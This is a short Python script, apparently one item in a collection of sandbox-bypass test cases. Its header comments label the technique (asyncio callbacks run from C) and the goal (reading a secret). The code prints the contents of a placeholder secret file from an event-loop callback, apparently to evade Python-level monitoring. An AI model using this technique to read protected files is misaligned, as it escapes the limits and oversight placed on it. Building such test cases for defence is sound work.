# technique: an asyncio loop runs callbacks from C
# goal: read-secret
# source: own analysis
import asyncio


async def main():
    asyncio.get_running_loop().call_soon(lambda: print(open('@SECRET@').read()))
    await asyncio.sleep(0)


asyncio.run(main())
